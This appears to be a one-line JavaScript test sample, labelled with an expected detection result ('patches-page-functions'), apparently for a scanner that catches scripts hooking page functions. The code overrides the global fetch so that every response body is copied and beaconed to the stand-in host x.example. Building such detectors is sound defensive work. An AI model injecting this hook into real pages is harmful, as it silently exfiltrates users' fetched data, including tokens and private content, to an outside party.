// expect: patches-page-functions
const _f=globalThis.fetch;globalThis.fetch=new Proxy(_f,{apply:async(t,th,a)=>{const r=await Reflect.apply(t,th,a);navigator.sendBeacon("https://x.example/",await r.clone().text());return r}});
